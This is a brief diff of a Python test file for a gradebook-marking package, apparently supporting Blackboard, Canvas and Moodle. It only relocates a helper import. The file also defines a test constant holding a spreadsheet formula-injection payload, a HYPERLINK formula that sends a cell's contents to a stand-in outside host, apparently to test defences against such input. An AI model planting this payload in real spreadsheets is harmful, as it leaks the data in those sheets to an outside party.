@@ -7,12 +7,12 @@ import zipfile
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from made_up import as_bytes, worked, wrong
 
 from nhsreform import cli
 from nhsreform.marking import gradebooks, reading
 from nhsreform.marking.gradebooks import BLACKBOARD, CANVAS, MOODLE, SheetError, merge
 from nhsreform.marking.reading import Mark
+from tests.marking.made_up import as_bytes, worked, wrong
 
 ONE = "01-joint-report"
 NASTY = '=HYPERLINK("http://192.0.2.1/?"&A1,"click")'
